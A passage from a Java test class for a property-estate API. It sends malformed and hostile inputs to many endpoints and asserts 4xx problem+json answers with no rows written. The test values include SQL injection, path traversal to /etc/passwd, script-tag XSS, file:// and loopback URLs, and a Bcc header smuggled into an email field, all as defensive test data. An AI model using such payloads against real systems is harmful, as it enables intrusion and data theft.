            "/data-quality?partner=no-such-partner", "/data-quality?partner=Dover", "/data-quality?partner=d",
            "/data-quality?scope=ALL", "/data-quality?scope=partnership", "/data-quality?partner=maidstone&partner=dover",
            "/data-quality?staleAfterDays=0", "/data-quality?staleAfterDays=3651", "/data-quality?staleAfterDays=a%20year",
            "/data-quality?listLimit=0", "/data-quality?listLimit=501", "/data-quality?listLimit=1.5"})
    void badDataQualityParameters(String pathAndQuery) {
        String parameter = pathAndQuery.substring(pathAndQuery.indexOf('?') + 1, pathAndQuery.indexOf('='));
        Response r = Api.badRequestAs("maidstone.editor").urlEncodingEnabled(false).get(pathAndQuery);
        assertEquals(400, r.statusCode(), pathAndQuery + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
        List<String> fields = r.jsonPath().getList("errors.field", String.class);
        assertTrue(!fields.isEmpty() && fields.stream().allMatch(parameter::equals), pathAndQuery + ": " + fields);
    }

    /**
     * GET /assets's point, radius and sort rules the contract cannot express (#16): a point needs both
     * coordinates, and radiusM (a radius search) or sort=distance (the nearest first); sort=distance needs
     * a point; total is exact or bounded, nothing else (the contract's enum, checked first by ParameterRules,
     * so its 400 names total alone). Each is a 400 naming exactly the listed parameters,
     * in that order.
     */
    @ParameterizedTest(name = "GET {0}")
    @org.junit.jupiter.params.provider.CsvSource(delimiter = ' ', value = {
            "/assets?nearLat=51.27&nearLon=0.52 radiusM",
            "/assets?nearLat=51.27&nearLon=0.52&sort=-name radiusM",
            "/assets?nearLat=51.27&sort=distance radiusM,sort",
            "/assets?nearLon=0.52&sort=distance radiusM,sort",
            "/assets?nearLon=0.52&radiusM=100 radiusM",
            "/assets?radiusM=100&sort=distance radiusM,sort",
            "/assets?sort=distance sort",
            "/assets?bbox=0.6,51.2,0.5,51.3&nearLat=51.27&nearLon=0.52 bbox,radiusM",
            "/assets?total=EXACT total",
            "/assets?total=approximate total",
            "/assets?nearLat=51.27&nearLon=0.52&sort=distance&total= total",
            "/assets?sort=distance&total=none total"})
    void badAssetPointCombinations(String pathAndQuery, String fields) {
        Map<String, Long> before = counts();
        Response r = Api.badRequestAs("maidstone.editor").urlEncodingEnabled(false).get(pathAndQuery);
        assertEquals(400, r.statusCode(), pathAndQuery + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
        assertEquals(List.of(fields.split(",")), r.jsonPath().getList("errors.field", String.class), pathAndQuery);
        assertEquals(before, counts(), pathAndQuery);
    }

    /** Injection strings and bad values in every query parameter of every read. */
    static Stream<String> queries() {
        List<String> queries = new ArrayList<>();
        Map<String, List<String>> params = new HashMap<>(Map.of(
                "/partners", List.of("type", "limit", "offset"),
                "/assets", List.of("partner", "localAuthority", "status", "type", "q", "bbox", "nearLat", "nearLon", "radiusM",
                        "includeDisposed", "sort", "total", "limit", "offset"),
                "/assets/co-location", List.of("distanceM", "localAuthority", "minPartners", "bbox", "limit", "offset"),
                "/assets/export", List.of("layout", "partner", "localAuthority", "status", "includeDisposed"),
                "/projects", List.of("stage", "type", "localAuthority", "lead", "partner", "programme", "q", "limit", "offset"),
                "/projects/outcomes", List.of("stage", "type", "localAuthority", "partner", "programme"),
                "/dashboards/assets", List.of("localAuthority"),
                "/dashboards/pipeline", List.of("localAuthority"),
                "/data-quality", List.of("partner", "scope", "localAuthority", "staleAfterDays", "listLimit"),
                "/local-authorities", List.of("type", "region", "county", "current", "name", "inPartnershipArea", "limit",
                        "offset")));
        params.put("/brownfield-sites", List.of("partner", "localAuthority", "planningStatus", "ownershipStatus",
                "deliverable", "q", "bbox", "limit", "offset"));
        params.put("/awards/export", List.of("programme", "roundId", "format"));
        params.put("/dashboards/land-release", List.of("localAuthority"));
        params.put("/dashboards/occupations", List.of("localAuthority"));
        params.put("/workspaces", List.of("asset", "limit", "offset"));
        params.put("/occupations/opportunities", List.of("withinMonths", "distanceM", "candidates", "limit", "offset"));
        params.put("/occupations/lease-events", List.of("withinMonths", "kind", "occupierPartnerId", "limit", "offset"));
        params.put("/occupations/under-used", List.of("belowPercent", "occupierPartnerId", "limit", "offset"));
        params.put("/brownfield-sites/export", List.of("partner", "localAuthority", "planningStatus", "ownershipStatus"));
        params.put("/disposals", List.of("status", "ownerPartnerId", "localAuthority", "windowOpen", "limit", "offset"));
        params.put("/disposals/export", List.of("status", "ownerPartnerId", "localAuthority", "windowOpen"));
        params.put("/disposals/00000000-0000-0000-0000-000000000000/interests", List.of("limit", "offset"));
        params.put("/webhook-subscriptions", List.of("limit", "offset"));
        params.put("/webhook-subscriptions/00000000-0000-0000-0000-000000000000/deliveries", List.of("status", "limit",
                "offset"));
        params.forEach((path, names) -> {
            for (String name : names) {
                for (String value : INJECTIONS) {
                    queries.add(path + "?" + name + "=" + java.net.URLEncoder.encode(value,
                            java.nio.charset.StandardCharsets.UTF_8));
                }
                queries.add(path + "?" + name + "=" + "9".repeat(40));
                // Long, but inside the 4 kB request line Vert.x accepts (longer lines get its bare 414).
                queries.add(path + "?" + name + "=" + "x".repeat(3000));
            }
        });
        return queries.stream().sorted();
    }

    @ParameterizedTest(name = "GET {0}")
    @MethodSource("queries")
    void queryParameters(String pathAndQuery) {
        Map<String, Long> before = counts();
        Response r = Api.badRequestAs("maidstone.editor").accept("application/json, text/csv")
                .urlEncodingEnabled(false).get(pathAndQuery);
        assertTrue(r.statusCode() < 500, pathAndQuery + ": " + r.statusCode() + " " + r.asString());
        if (r.statusCode() >= 400) {
            assertEquals(400, r.statusCode(), pathAndQuery + ": " + r.asString());
            assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
        } else if (r.contentType().startsWith("application/json") && r.asString().contains("\"total\"")
                && (pathAndQuery.contains("?q=") || pathAndQuery.contains("?partner=") || pathAndQuery.contains("?lead="))) {
            // An injected filter is a value, never a condition that matches everything: partner and lead match
            // no partner; free text finds only records that contain the very string (other tests of this
            // class store such strings as names and streets).
            String value = java.net.URLDecoder.decode(pathAndQuery.substring(pathAndQuery.indexOf('=') + 1),
                    java.nio.charset.StandardCharsets.UTF_8);
            List<Map<String, Object>> items = r.jsonPath().getList("items");
            if (pathAndQuery.contains("?q=")) {
                for (Map<String, Object> item : items) {
                    assertTrue(item.toString().toLowerCase().contains(value.toLowerCase()),
                            pathAndQuery + ": found a record without the text: " + item);
                }
                assertEquals(items.size(), (int) r.path("total"), pathAndQuery + ": more matches than one page");
            } else {
                assertEquals(0, (int) r.path("total"), pathAndQuery + ": " + r.asString());
            }
        }
        assertEquals(before, counts(), pathAndQuery + ": a read wrote rows");
    }

    static Stream<String> pathParameters() {
        List<String> paths = new ArrayList<>();
        for (String value : List.of("' or 1=1 --", "..%2F..%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "00000000-0000-0000-0000-00000000000g", "x".repeat(3000))) {
            String v = value.contains("%") ? value : java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
            paths.add("GET /partners/" + v);
            paths.add("GET /local-authorities/" + v);
            paths.add("GET /assets/" + v);
            paths.add("GET /assets/" + v + "/status-history");
            paths.add("GET /projects/" + v);
            paths.add("GET /projects/" + v + "/stage-changes");
            paths.add("PUT /assets/" + v);
            paths.add("POST /assets/" + v + "/disposal");
            paths.add("PUT /projects/" + v);
            paths.add("POST /projects/" + v + "/milestones");
            paths.add("PUT /projects/00000000-0000-0000-0000-000000000000/milestones/" + v);
            paths.add("GET /brownfield-sites/" + v);
            paths.add("PUT /brownfield-sites/" + v + "/links");
            paths.add("PUT /brownfield-sites/" + v + "/boundary");
            paths.add("DELETE /brownfield-sites/" + v + "/boundary");
            paths.add("GET /disposals/" + v);
            paths.add("GET /disposals/" + v + "/history");
            paths.add("GET /disposals/" + v + "/interests");
            paths.add("POST /disposals/" + v + "/interests");
            paths.add("POST /disposals/" + v + "/withdrawal");
            paths.add("POST /disposals/" + v + "/open-market-release");
            paths.add("GET /disposals/00000000-0000-0000-0000-000000000000/interests/" + v);
            paths.add("POST /disposals/00000000-0000-0000-0000-000000000000/interests/" + v + "/withdrawal");
            paths.add("GET /disposals/" + v + "/homes-delivered");
            paths.add("PUT /disposals/" + v + "/homes-delivered/2024-25");
            paths.add("PUT /disposals/00000000-0000-0000-0000-000000000000/homes-delivered/" + v);
            paths.add("GET /assets/" + v + "/occupations");
            paths.add("POST /assets/" + v + "/occupations");
            paths.add("GET /occupations/" + v);
            paths.add("PUT /occupations/" + v);
            paths.add("GET /occupations/" + v + "/history");
            paths.add("POST /assets/" + v + "/workspaces");
            paths.add("GET /workspaces/" + v);
            paths.add("PUT /workspaces/" + v + "/allocations/dover");
            paths.add("PUT /workspaces/00000000-0000-0000-0000-000000000000/allocations/" + v);
            paths.add("GET /workspaces/" + v + "/bookings");
            paths.add("POST /workspaces/" + v + "/bookings");
            paths.add("POST /bookings/" + v + "/cancellation");
            paths.add("GET /workspaces/" + v + "/use?from=2026-01-01&to=2026-01-31");
            paths.add("GET /webhook-subscriptions/" + v);
            paths.add("PUT /webhook-subscriptions/" + v);
            paths.add("DELETE /webhook-subscriptions/" + v);
            paths.add("POST /webhook-subscriptions/" + v + "/status-changes");
            paths.add("POST /webhook-subscriptions/" + v + "/secret-rotations");
            paths.add("POST /webhook-subscriptions/" + v + "/replays");
            paths.add("GET /webhook-subscriptions/" + v + "/deliveries");
            paths.add("GET /tiles/assets/" + v + "/0/0.mvt");
            paths.add("GET /tiles/assets/0/" + v + "/0.mvt");
            paths.add("GET /tiles/assets/0/0/" + v + ".mvt");
        }
        return paths.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("pathParameters")
    void pathParameterValues(String request) {
        String method = request.substring(0, request.indexOf(' '));
        String path = request.substring(request.indexOf(' ') + 1);
        Map<String, Long> before = counts();
        Response r = Api.badRequestAs("pmo.admin").contentType(ContentType.JSON).header("If-Match", "\"0\"")
                .urlEncodingEnabled(false).body("{}").request(method, path);
        assertTrue(r.statusCode() == 400 || r.statusCode() == 404, request + ": " + r.statusCode() + " " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), request + ": " + r.contentType());
        assertEquals(before, counts(), request + ": rows written");
    }

    /**
     * A vector tile's query parameter and If-None-Match: bad values of includeDisposed are a 400 naming it; an
     * If-None-Match that matches nothing is an ordinary read (a tile, 204 or 304 when it is "*"), one over
     * 1,000 characters a 400 naming it; never a 5xx, and nothing written.
     */
    static Stream<String> tileInputs() {
        List<String> values = new ArrayList<>(INJECTIONS);
        values.add("9".repeat(40));
        values.add("x".repeat(3000));
        values.add("*");
        return values.stream();
    }

    @ParameterizedTest(name = "GET /tiles/assets/8/128/85.mvt with {0}")
    @MethodSource("tileInputs")
    void badTileInputs(String value) {
        Map<String, Long> before = counts();
        String path = "/tiles/assets/8/128/85.mvt";
        Response query = Api.badRequestAs("maidstone.editor").accept("application/vnd.mapbox-vector-tile")
                .urlEncodingEnabled(false)
                .get(path + "?includeDisposed=" + java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8));
        assertEquals(400, query.statusCode(), value + ": " + query.asString());
        assertTrue(query.contentType().startsWith("application/problem+json"), value);
        assertEquals(List.of("includeDisposed"), query.jsonPath().getList("errors.field", String.class), value);

        Response header = Api.badRequestAs("maidstone.editor").accept("application/vnd.mapbox-vector-tile")
                .header("If-None-Match", value).get(path);
        if (value.length() > 1000) {
            assertEquals(400, header.statusCode(), value + ": " + header.asString());
            assertTrue(header.contentType().startsWith("application/problem+json"), value);
            assertTrue(header.asString().contains("If-None-Match") || header.asString().contains("ifNoneMatch"),
                    header.asString());
        } else {
            assertTrue(List.of(200, 204, 304).contains(header.statusCode()), value + ": " + header.statusCode());
            assertEquals(value.equals("*"), header.statusCode() == 304, value + ": " + header.statusCode());
        }
        assertEquals(before, counts(), value + ": a read wrote rows");
    }

    /** The CSV import: bad files are refused whole. */
    @ParameterizedTest(name = "import {0}")
    @MethodSource("csvFiles")
    void csvImport(String name, String csv) {
        Map<String, Long> before = counts();
        Response r = Api.badRequestAs("maidstone.editor").contentType("text/csv; charset=UTF-8").body(csv)
                .post("/assets/import");
        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, name + ": " + r.statusCode() + " " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), name);
        assertEquals(before, counts(), name + ": rows written");
    }

    static Stream<org.junit.jupiter.params.provider.Arguments> csvFiles() {
        String header = "UPRN,Unique Asset ID,Name,Postcode,X co-ordinate,Y co-ordinate,Tenure,Asset type\n";
        List<org.junit.jupiter.params.provider.Arguments> files = new ArrayList<>();
        files.add(org.junit.jupiter.params.provider.Arguments.of("binary garbage", "\u0000\u0001\u0002PK\u0003\u0004"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("unterminated quote", header + "1,\"A,B,ME15 6JQ,576086,155747\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("wrong types", header + "abc,R1,Name,ME15 6JQ,east,north,Freehold,Office\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("unknown enum", header + "1,R1,Name,ME15 6JQ,576086,155747,Pirated,Casino\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("over-long name", header + "1,R1," + "x".repeat(100_000) + ",ME15 6JQ,576086,155747,Freehold,Office\n"));
        // Registers in the LGA schema (#15): each file is refused whole for one bad cell.
        String lga = "OrganisationURI,UPRN,AssetCode,PropertyName,CoordinateReferenceSystem,GeoX,GeoY,TenureType,"
                + "EnergyRating,EffectiveDate\n";
        String ok = "http://opendatacommunities.org/id/district-council/maidstone";
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: UPRN in Excel notation",
                lga + ok + ",1.00023E+11,A1,Name,OSGB36,576086,155747,Freehold,C,31/03/2024\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: swapped longitude and latitude",
                lga + ok + ",,A1,Name,WGS84,51.27,0.52,Freehold,C,31/03/2024\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: half a location",
                lga + ok + ",,A1,Name,OSGB36,576086,,Freehold,C,31/03/2024\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: unknown coordinate system",
                lga + ok + ",,A1,Name,EPSG:3857,576086,155747,Freehold,C,31/03/2024\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: EPC band H",
                lga + ok + ",,A1,Name,OSGB36,576086,155747,Freehold,H,31/03/2024\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: impossible date",
                lga + ok + ",,A1,Name,OSGB36,576086,155747,Freehold,C,31/02/2024\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: another council's URI",
                lga + "http://opendatacommunities.org/id/district-council/dover,,A1,Name,OSGB36,576086,155747,"
                        + "Freehold,C,31/03/2024\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("LGA: no key column",
                "PropertyName,GeoX,GeoY\nName,576086,155747\n"));
        for (String injection : INJECTIONS) {
            // A good row followed by a row whose postcode is an injection string: the whole file is refused.
            files.add(org.junit.jupiter.params.provider.Arguments.of("injection " + abbreviate(injection),
                    header + AssetFixtures.uprn() + ",R-" + AssetFixtures.token() + ",Good,ME15 6JQ,576086,155747,Freehold,Office\n"
                            + AssetFixtures.uprn() + ",R2,Bad,\"" + injection.replace("\"", "\"\"")
                            + "\",576086,155747,Freehold,Office\n"));
        }
        return files.stream();
    }

    /** The brownfield register import: bad files are refused whole, naming the line, and nothing is written. */
    @ParameterizedTest(name = "brownfield import {0}")
    @MethodSource("brownfieldFiles")
    void brownfieldCsvImport(String name, String csv) {
        Map<String, Long> before = counts();
        Response r = Api.badRequestAs("maidstone.editor").contentType("text/csv; charset=UTF-8").body(csv)
                .post("/brownfield-sites/import");
        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, name + ": " + r.statusCode() + " " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), name);
        assertEquals(before, counts(), name + ": rows written");
    }

    static Stream<org.junit.jupiter.params.provider.Arguments> brownfieldFiles() {
        String header = "SiteReference,SiteNameAddress,CoordinateReferenceSystem,GeoX,GeoY,Hectares,OwnershipStatus\n";
        List<org.junit.jupiter.params.provider.Arguments> files = new ArrayList<>();
        files.add(org.junit.jupiter.params.provider.Arguments.of("binary garbage", "\u0000\u0001\u0002PK\u0003\u0004"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("empty", ""));
        files.add(org.junit.jupiter.params.provider.Arguments.of("header only", header));
        files.add(org.junit.jupiter.params.provider.Arguments.of("unterminated quote", header + "R1,\"A,B,OSGB36,576086,155747\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("misspelt header", header.replace("Hectares", "Hecatres") + "R1,A,OSGB36,576086,155747,1,mixed ownership\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("swapped WGS84", header + "R1,A,WGS84,51.27,0.52,1,mixed ownership\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("impossible coordinates", header + "R1,A,OSGB36,-5,99999999,1,mixed ownership\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("uneven row", header + "R1,A,OSGB36,576086\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("wrong types", header + "R1,A,OSGB36,east,north,lots,yes\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("another council", "OrganisationURI," + header
                + "http://opendatacommunities.org/id/district-council/dover,R1,A,OSGB36,576086,155747,1,mixed ownership\n"));
        files.add(org.junit.jupiter.params.provider.Arguments.of("over-long name", header + "R1," + "x".repeat(100_000)
                + ",OSGB36,576086,155747,1,mixed ownership\n"));
        for (String injection : INJECTIONS) {
            // A good row, then a row whose area is an injection string: the whole file is refused.
            files.add(org.junit.jupiter.params.provider.Arguments.of("injection " + abbreviate(injection),
                    header + "R-" + AssetFixtures.token() + ",Good,OSGB36,576086,155747,1,mixed ownership\n"
                            + "R2,Bad,OSGB36,576086,155747,\"" + injection.replace("\"", "\"\"") + "\",mixed ownership\n"));
        }
        return files.stream();
    }

    /**
     * Bodies over the 64 MB limit (quarkus.http.limits.max-body-size): every operation that takes a body
     * answers 413 problem+json as soon as it sees the declared length, and writes nothing. The test sends
     * the headers and the first 256 kB over a plain socket, as a client streaming a 65 MB body would.
     */
    @ParameterizedTest(name = "65 MB body: {0}")
    @MethodSource("bodyOperations")
    void oversizedBodies(String name, String method, String contentType) throws Exception {
        // The JSON operations are the OPS table's own (its target and its user), so that an operation added
        // to the table is tested here too; only the two CSV imports are not in the table.
        Op op = OPS.stream().filter(o -> o.name().equals(name)).findFirst().orElse(null);
        Target target = switch (name) {
            case "importAssets" -> new Target("/assets/import", null, null);
            case "importBrownfieldSites" -> new Target("/brownfield-sites/import", null, null);
            default -> op.target().apply(AssetFixtures.token());
        };
        String user = op == null ? "maidstone.editor" : op.user();
        Map<String, Long> before = counts();
        String recordBefore = target.readBack() == null ? null : Api.as("pmo.admin").get(target.readBack()).asString();
        long declared = 65L * 1024 * 1024;
        String head = method + " " + target.path() + " HTTP/1.1\r\nHost: localhost\r\n"
                + "Authorization: Bearer " + org.estatehub.testing.Keycloak.userToken(user) + "\r\n"
                + "Content-Type: " + contentType + "\r\nContent-Length: " + declared + "\r\n"
                + (target.ifMatch() == null ? "" : "If-Match: " + target.ifMatch() + "\r\n") + "\r\n";
        String answer;
        try (java.net.Socket socket = new java.net.Socket("localhost", io.restassured.RestAssured.port)) {
            socket.setSoTimeout(30_000);
            var out = socket.getOutputStream();
            out.write(head.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
            byte[] chunk = ("{\"name\": \"" + "x".repeat(64 * 1024)).getBytes(java.nio.charset.StandardCharsets.US_ASCII);
            try {
                for (int i = 0; i < 4; i++) {
                    out.write(chunk);
                }
                out.flush();
            } catch (java.io.IOException closedEarly) {
                // The server may answer and close before the client has written this much: that is fine.
            }
            answer = new String(socket.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
        }
        assertTrue(answer.startsWith("HTTP/1.1 413"), name + ": " + abbreviate(answer));
        assertTrue(answer.toLowerCase().contains("content-type: application/problem+json"), name + ": " + answer);
        assertTrue(answer.contains("\"status\":413"), name + ": " + answer);
        assertEquals(before, counts(), name + ": rows written");
        if (recordBefore != null) {
            assertEquals(recordBefore, Api.as("pmo.admin").get(target.readBack()).asString(), name + ": record changed");
        }
    }

    static Stream<org.junit.jupiter.params.provider.Arguments> bodyOperations() {
        List<org.junit.jupiter.params.provider.Arguments> ops = new ArrayList<>();
        for (Op op : OPS) {
            ops.add(org.junit.jupiter.params.provider.Arguments.of(op.name(), op.method(), "application/json"));
        }
        ops.add(org.junit.jupiter.params.provider.Arguments.of("importAssets", "POST", "text/csv; charset=UTF-8"));
        ops.add(org.junit.jupiter.params.provider.Arguments.of("importBrownfieldSites", "POST", "text/csv; charset=UTF-8"));
        return ops.stream();
    }

    // --- targets: fresh records so that an accepted request never disturbs the next case -----------------

    static Target partner(String t) {
        String id = "bi-" + t;
        // Each its own name: a partner's Keycloak organization's name is unique in the realm (#18).
        Api.as("pmo.admin").body(Map.of("id", id, "name", "Bad input target " + t, "type", "OTHER")).post("/partners")
                .then().statusCode(201);
        return new Target("/partners/" + id, "\"0\"", "/partners/" + id);
    }

    /** A fresh partner and a fresh Keycloak user in no organization, whose email the invitation names. */
    static Target invitation(String t) {
        String id = "bi-" + t;
        Api.as("pmo.admin").body(Map.of("id", id, "name", "Bad input target " + t, "type", "OTHER")).post("/partners")
                .then().statusCode(201);
        org.estatehub.testing.KeycloakRealmAdmin.createUser("bi-" + t, "bi-" + t + "@bi.example.gov.uk");
        return new Target("/partners/" + id + "/members", null, "/partners/" + id + "/members");
    }

    /** A fresh partner with the email domain the identity provider's body routes. */
    static Target identityProvider(String t) {
        String id = "bi-" + t;
        Api.as("pmo.admin").body(Map.of("id", id, "name", "Bad input target " + t, "type", "OTHER",
                "emailDomains", List.of(t + ".bi.example.gov.uk"))).post("/partners").then().statusCode(201);
        return new Target("/partners/" + id + "/identity-provider", null, "/partners/" + id + "/access-history");
    }

    static Stream<org.junit.jupiter.params.provider.Arguments> badOnboardingRequests() {
        List<org.junit.jupiter.params.provider.Arguments> cases = new ArrayList<>();
        for (String email : List.of("no-at-sign.gov.uk", "a@", "@maidstone.gov.uk", "a@b@maidstone.gov.uk",
                "a b@maidstone.gov.uk", "x".repeat(250) + "@b.uk", "<script>@x.gov.uk", "a@b.gov.uk\nBcc: c@d.gov.uk")) {
            cases.add(org.junit.jupiter.params.provider.Arguments.of("email " + abbreviate(email), "POST", "/members",
                    Map.of("email", email), "email"));
        }
        for (String url : List.of("ftp://idp.example/x", "javascript:alert(1)", "http://", "not a url",
                "file:///etc/passwd", "http://127.0.0.1:9/unreachable", "http://x/" + "y".repeat(2100))) {
            cases.add(org.junit.jupiter.params.provider.Arguments.of("metadataUrl " + abbreviate(url), "PUT", "/identity-provider",
                    Map.of("type", "SAML", "metadataUrl", url, "emailDomains", List.of("DOMAIN")), "metadataUrl"));
            cases.add(org.junit.jupiter.params.provider.Arguments.of("issuer " + abbreviate(url), "PUT", "/identity-provider",
                    Map.of("type", "OIDC", "issuer", url, "clientId", "x", "clientSecret", "y", "emailDomains", List.of("DOMAIN")),
                    "issuer"));
        }
        cases.add(org.junit.jupiter.params.provider.Arguments.of("OIDC with both issuer and discoveryUrl", "PUT", "/identity-provider",
                Map.of("type", "OIDC", "issuer", "https://a.example", "discoveryUrl", "https://a.example/.well-known/openid-configuration",
                        "clientId", "x", "clientSecret", "y", "emailDomains", List.of("DOMAIN")), "issuer"));
        cases.add(org.junit.jupiter.params.provider.Arguments.of("SAML with a client secret", "PUT", "/identity-provider",
                Map.of("type", "SAML", "metadataUrl", "https://a.example/m", "clientSecret", "y", "emailDomains", List.of("DOMAIN")),
                "clientSecret"));
        cases.add(org.junit.jupiter.params.provider.Arguments.of("a domain not the partner's", "PUT", "/identity-provider",
                Map.of("type", "SAML", "metadataUrl", "https://a.example/m", "emailDomains", List.of("elsewhere.gov.uk")),
                "emailDomains"));
        cases.add(org.junit.jupiter.params.provider.Arguments.of("no domain", "PUT", "/identity-provider",
                Map.of("type", "SAML", "metadataUrl", "https://a.example/m", "emailDomains", List.of()), "emailDomains"));
        for (String role : List.of("pmo-admin", "s151-officer", "board-member", "PARTNER_EDITOR", "PIRATES", "partner-editor%20")) {
            cases.add(org.junit.jupiter.params.provider.Arguments.of("role " + role, "PUT",
                    "/members/00000000-0000-4000-8000-000000000001/roles/" + role, null, "role"));
            cases.add(org.junit.jupiter.params.provider.Arguments.of("withdraw role " + role, "DELETE",
                    "/members/00000000-0000-4000-8000-000000000001/roles/" + role, null, "role"));
        }
        for (String member : List.of("not-a-uuid", "1", "%27%20or%201%3D1", "x..y")) {
            cases.add(org.junit.jupiter.params.provider.Arguments.of("member id " + member, "GET", "/members/" + member, null,
                    "memberId"));
        }
        return cases.stream();
    }

    /**
     * Onboarding's own bad input (#18): bad emails, bad or unreadable provider URLs, fields of the other
     * provider type, domains not the partner's, roles a partner cannot grant (programme roles included) and
     * bad member ids. Each a 400 naming the field; nothing written, in EstateHub or in Keycloak.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("badOnboardingRequests")
    void badOnboardingInput(String name, String method, String suffix, Map<String, Object> body, String field) throws Exception {
        String t = AssetFixtures.token();
        String id = "bi-" + t;
        String domain = t + ".bi.example.gov.uk";
        Api.as("pmo.admin").body(Map.of("id", id, "name", "Bad onboarding " + t, "type", "OTHER",
                "emailDomains", List.of(domain))).post("/partners").then().statusCode(201);
        Map<String, Long> before = counts();
        var spec = Api.badRequestAs("pmo.admin").contentType(ContentType.JSON).accept(ContentType.JSON).urlEncodingEnabled(false);
        if (body != null) {
            spec = spec.body(JSON.writeValueAsString(body).replace("\"DOMAIN\"", "\"" + domain + "\""));
        }
        Response r = spec.request(method, "/partners/" + id + suffix);
        assertEquals(400, r.statusCode(), name + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), name + ": " + r.contentType());
        assertTrue(r.jsonPath().getList("errors.field", String.class).contains(field), name + ": names no " + field + ": " + r.asString());
        assertEquals(before, counts(), name + ": rows written");
        assertEquals(404, Api.as("pmo.admin").get("/partners/" + id + "/identity-provider").statusCode(), name);
        assertEquals(0, (int) Api.as("pmo.admin").get("/partners/" + id + "/members").path("total"), name);
    }

    static Target asset(String t, String suffix) {
        String id = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input target " + t, 51.27, 0.52));
        return new Target("/assets/" + id + suffix, "\"0\"", "/assets/" + id);
    }

    static Target project(String t, String suffix) {
        String id = ProjectFixtures.createId("maidstone.editor", ProjectFixtures.project("Bad input target " + t, "kcc"));
        return new Target("/projects/" + id + suffix, suffix.isEmpty() || suffix.equals("/stage-changes") ? "\"0\"" : null,
                "/projects/" + id);
    }

    static Target milestone(String t) {
        String id = ProjectFixtures.createId("maidstone.editor", ProjectFixtures.project("Bad input target " + t, "kcc"));
        String milestone = Api.as("maidstone.editor").body(Map.of("name", "Survey", "dueOn", "2031-01-31"))
                .post("/projects/" + id + "/milestones").then().statusCode(201).extract().path("id");
        return new Target("/projects/" + id + "/milestones/" + milestone, "\"0\"", "/projects/" + id);
    }

    static Map<String, Object> occupationBody(String t) {
        Map<String, Object> o = new HashMap<>();
        o.put("occupierName", "Tenant " + t);
        o.put("basis", "LEASE");
        o.put("areaM2", 100.5);
        o.put("desks", 8);
        o.put("yearlyRent", Map.of("amount", "1200.00", "currency", "GBP"));
        o.put("yearlyServiceCharge", Map.of("amount", "300.00", "currency", "GBP"));
        o.put("startsOn", "2024-01-01");
        o.put("endsOn", "2030-12-31");
        o.put("breakOn", "2027-12-31");
        o.put("rentReviewOn", "2026-01-01");
        o.put("landlordName", "Landlord " + t);
        return o;
    }

    static Target occupation(String t) {
        Target asset = asset(t, "/occupations");
        String id = Api.as("maidstone.editor").body(occupationBody(t)).post(asset.path()).then().statusCode(201)
                .extract().path("id");
        return new Target("/occupations/" + id, "\"0\"", "/occupations/" + id);
    }

    /** A fresh workspace of Maidstone's in which Maidstone holds two desks. */
    static Target workspace(String t, String suffix) {
        Target asset = asset(t, "/workspaces");
        var ws = Api.as("maidstone.editor").body(Map.of("name", "Hub", "zones", List.of(Map.of("name", "Open", "desks", 4))))
                .post(asset.path()).then().statusCode(201).extract();
        String id = ws.path("id");
        WORKSPACE_DESKS.put(t, ws.path("zones[0].desks[0].id"));
        Api.as("maidstone.editor").body(Map.of("desks", 2)).put("/workspaces/" + id + "/allocations/maidstone")
                .then().statusCode(200);
        return new Target("/workspaces/" + id + suffix, null, "/workspaces/" + id);
    }

    static Target booking(String t) {
        Target ws = workspace(t, "/bookings");
        String id = Api.as("maidstone.editor").body(Map.of("deskId", WORKSPACE_DESKS.get(t), "on",
                LocalDate.now().plusDays(9).toString(), "slot", "AM")).post(ws.path()).then().statusCode(201).extract().path("id");
        return new Target("/bookings/" + id + "/cancellation", null, ws.readBack());
    }

    static Target brownfieldSite(String t) {
        String id = org.estatehub.brownfield.BrownfieldFixtures.site("maidstone", t);
        return new Target("/brownfield-sites/" + id + "/links", "\"0\"", "/brownfield-sites/" + id);
    }

    static Target brownfieldBoundary(String t) {
        String id = org.estatehub.brownfield.BrownfieldFixtures.site("maidstone", t);
        return new Target("/brownfield-sites/" + id + "/boundary", "\"0\"", "/brownfield-sites/" + id);
    }

    /** A year of homes on a fresh sale by Maidstone (the disposal written as a fixture: see DisposalFixtures). */
    static Target homesDelivered(String t) {
        String asset = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input sale " + t, 51.27, 0.52));
        var disposal = org.estatehub.testing.DisposalFixtures.insert(org.estatehub.testing.DisposalFixtures
